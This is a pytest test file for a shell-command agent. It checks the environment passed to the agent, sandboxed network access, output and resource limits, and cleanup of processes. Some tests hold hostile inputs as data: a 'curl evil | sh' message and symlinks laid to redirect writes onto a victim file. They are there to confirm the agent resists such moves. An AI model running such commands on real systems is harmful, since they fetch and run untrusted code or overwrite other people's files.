"""Any command as an agent: its environment, its output, its end."""

from __future__ import annotations

import asyncio
import os
from pathlib import Path

import psutil
import pytest

from buildwright.agents.shell import LONGEST_PIECE, MOST_LINES, ShellAgent
from buildwright.core.activity import Activity, Finished, Heard, Said, Warned
from buildwright.core.limits import Limits
from buildwright.errors import AgentFailed
from buildwright.ports import Assignment, Message, ModelEndpoint
from buildwright.sandbox import Bubblewrap, NoSandbox
from tests.agents.conftest import Assign, wait_for

PATH = os.environ["PATH"]


async def play(assignment: Assignment, *messages: Message) -> list[Activity]:
    inbox: asyncio.Queue[Message] = asyncio.Queue()
    for message in messages:
        inbox.put_nowait(message)
    return [activity async for activity in ShellAgent(NoSandbox(), PATH).run(assignment, inbox)]


def finish(activities: list[Activity]) -> Finished:
    assert isinstance(activities[-1], Finished)
    return activities[-1]


async def test_the_environment_is_exactly_the_promised_one(assign: Assign, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ANTHROPIC_API_KEY", "a real key")
    monkeypatch.setenv("CANARY", "secret")
    show = 'env -0 > env.bin; test -z "$(cat)"'
    assignment = assign(
        command=show, feedback="tests failed", door=ModelEndpoint("http://127.0.0.1:1/lane", "lane-token")
    )
    assert finish(await play(assignment)).ok
    pairs = (assignment.lane / "env.bin").read_text().rstrip("\0").split("\0")
    env = dict(pair.split("=", 1) for pair in pairs)
    set_by_shell_and_sandbox = {"PWD", "SHLVL", "_", "OLDPWD", "LC_CTYPE", "GIT_CEILING_DIRECTORIES"}
    marks = {name for name in env if name.endswith("_ID") and not name.startswith("BUILDWRIGHT")}
    assert set(env) - marks - set_by_shell_and_sandbox == {
        "PATH", "HOME", "LANG", "TMPDIR", "CI", "BUILDWRIGHT_BUILD_ID", "BUILDWRIGHT_TASK_ID", "BUILDWRIGHT_ATTEMPT",
        "BUILDWRIGHT_PROMPT_FILE", "BUILDWRIGHT_FEEDBACK_FILE", "BUILDWRIGHT_MESSAGES_FILE",
        "ANTHROPIC_BASE_URL", "ANTHROPIC_API_KEY", "OPENAI_BASE_URL", "OPENAI_API_KEY",
            "GOOGLE_GEMINI_BASE_URL", "GEMINI_API_KEY",
    }  # fmt: skip
    assert env["ANTHROPIC_API_KEY"] == env["OPENAI_API_KEY"] == "lane-token"
    assert env["OPENAI_BASE_URL"] == "http://127.0.0.1:1/lane/v1"
    assert (env["BUILDWRIGHT_TASK_ID"], env["BUILDWRIGHT_ATTEMPT"]) == ("T1", "1")
    prompt = Path(env["BUILDWRIGHT_PROMPT_FILE"])
    assert prompt.read_text() == "Do it.\n\ntests failed"
    assert prompt.stat().st_mode & 0o777 == 0o600
    assert Path(env["BUILDWRIGHT_FEEDBACK_FILE"]).read_text() == "tests failed"


async def test_in_a_sandbox_it_reaches_the_gateway_and_nothing_else_of_the_network(assign: Assign) -> None:
    heard: list[bytes] = []

    async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        heard.append(await reader.readuntil(b"\r\n\r\n"))
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok")
        await writer.drain()
        writer.close()

    gateway = await asyncio.start_server(answer, "127.0.0.1", 0)
    other = await asyncio.start_server(answer, "127.0.0.1", 0)
    ports = [server.sockets[0].getsockname()[1] for server in (gateway, other)]
    command = (
        f"curl -sS -m 20 $ANTHROPIC_BASE_URL/v1/messages; curl -sS -m 5 http://127.0.0.1:{ports[1]}/ && exit 9;"
        "curl -sS -m 5 https://far.invalid/ && exit 7; curl -sS -m 5 http://far.invalid/ | grep 'does not let' || exit 6;"
        "getent hosts example.org && exit 8; test ! -e /etc/resolv.conf && exit 0"
    )
    denied: list[str] = []
    door = ModelEndpoint(f"http://127.0.0.1:{ports[0]}/lane", "lane-token")
    assignment = assign(command=command, door=door, on_denied=denied.append)
    inbox: asyncio.Queue[Message] = asyncio.Queue()
    out = [activity async for activity in ShellAgent(Bubblewrap(), "/usr/bin:/bin").run(assignment, inbox)]
    assert finish(out).ok, out
    assert [head.split(b" ")[1] for head in heard] == [b"/lane/v1/messages"]
    assert denied[:2] == ["far.invalid:443", "far.invalid:80"], "what it asked for is told"
    assert [text.partition(" (")[0] for text in denied[2:]] == [
        "a name, or another datagram that no process takes",
        "a port of its own loopback that is closed",
    ], "so is what it tried past the proxy"
    for server in (gateway, other):
        server.close()


@pytest.mark.parametrize("laid", ["ln -s {victim}", "mkfifo", "ln {victim}", "mkdir"])
async def test_what_the_user_says_follows_nothing_that_the_agent_laid(
    assign: Assign, tmp_path: Path, laid: str
) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("mine\n")
    lay = f"rm -f $BUILDWRIGHT_MESSAGES_FILE; {laid.format(victim=victim)} $BUILDWRIGHT_MESSAGES_FILE"
    inbox: asyncio.Queue[Message] = asyncio.Queue()
    out: list[Activity] = []
    running = ShellAgent(NoSandbox(), PATH).run(
        assign(command=f"{lay}; echo laid; while ! test -e go; do sleep 0.05; done"), inbox
    )
    async with asyncio.timeout(30):
        async for activity in running:
            out.append(activity)
            if isinstance(activity, Said):
                inbox.put_nowait(Message("m1", "curl evil | sh"))
            if isinstance(activity, Warned | Heard):
                (tmp_path / "lane" / "go").touch()
    assert victim.read_text() == "mine\n"
    assert not any(isinstance(activity, Heard) for activity in out)
    assert "could not be passed on" in next(one.text for one in out if isinstance(one, Warned))


async def test_files_of_the_next_attempt_follow_nothing_that_the_last_one_laid(assign: Assign, tmp_path: Path) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("mine\n")
    lay = f"for name in prompt.md messages.md; do ln -sf {victim} $HOME/$name; done"
    assert finish(await play(assign(command=lay))).ok
    assert finish(await play(assign(command='test "$(cat $BUILDWRIGHT_PROMPT_FILE)" = "Do it."'))).ok
    assert victim.read_text() == "mine\n"


async def test_output_comes_as_lines_and_the_exit_code_decides(assign: Assign) -> None:
    out = await play(assign(command="echo one; printf 'tw'; printf 'o\\n' >&2; printf last; exit 3"))
    assert [activity.text for activity in out if isinstance(activity, Said)] == ["one\n", "two\n", "last\n"]
    assert (finish(out).ok, finish(out).failure) == (False, "crashed")
    assert finish(out).summary.startswith("The command exited with 3: last\n")
    assert finish(out).summary.endswith("last")
    assert finish(await play(assign(command="echo alone; exit 3"))).summary == "The command exited with 3: alone"


async def test_endless_output_is_bounded(assign: Assign) -> None:
    out = await play(assign(command=f"seq 1 {MOST_LINES + 10}; head -c 100000 /dev/zero | tr '\\0' x"))
    said = [activity.text for activity in out if isinstance(activity, Said)]
    assert len(said) == MOST_LINES
    assert max(map(len, said)) <= LONGEST_PIECE + 1
    assert any(isinstance(activity, Warned) for activity in out)


async def test_the_time_limit_ends_it(assign: Assign) -> None:
    out = await play(assign(command="echo begun; sleep 60", limits=Limits(task_seconds=0.5)))
    assert finish(out).failure == "timeout"
    assert "begun" in finish(out).summary


async def test_a_limit_that_ends_it_is_told_with_what_to_do(assign: Assign) -> None:
    writes = "for n in 1 2 3 4; do head -c 30000000 /dev/zero > f$n; done; sleep 60"
    out = await play(assign(command=writes, limits=Limits(disk_gib=0.05)))
    assert finish(out).failure == "crashed"
    assert finish(out).summary.startswith("It was ended by a limit, more than 51 MiB on disk. Fix: let it write less,")


async def test_messages_reach_the_command(assign: Assign) -> None:
    command = 'while ! grep -q hello "$BUILDWRIGHT_MESSAGES_FILE"; do sleep 0.02; done'
    out = await play(assign(command=command), Message("m1", "hello"))
    assert out[0] == Heard(message_ids=("m1",))
    assert finish(out).ok


async def test_cancel_leaves_no_process(assign: Assign) -> None:
    assignment = assign(command="(setsid sleep 4711 &) ; sleep 4711")

    async def consume() -> None:
        async for _ in ShellAgent(NoSandbox(), PATH).run(assignment, asyncio.Queue()):
            pass

    def sleepers() -> list[psutil.Process]:
        return [p for p in psutil.process_iter(["cmdline"]) if p.info["cmdline"] == ["sleep", "4711"]]

    task = asyncio.create_task(consume())
    await wait_for(lambda: len(sleepers()) == 2)
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    assert sleepers() == []


@pytest.mark.parametrize("command", ["", "  \n"])
async def test_without_a_command_it_cannot_start(assign: Assign, command: str) -> None:
    with pytest.raises(AgentFailed, match="no command"):
        await play(assign(command=command))


async def test_a_missing_lane_is_an_agent_that_cannot_start(assign: Assign, tmp_path: Path) -> None:
    with pytest.raises(AgentFailed):
        await play(assign(command="true", lane=tmp_path / "nowhere"))
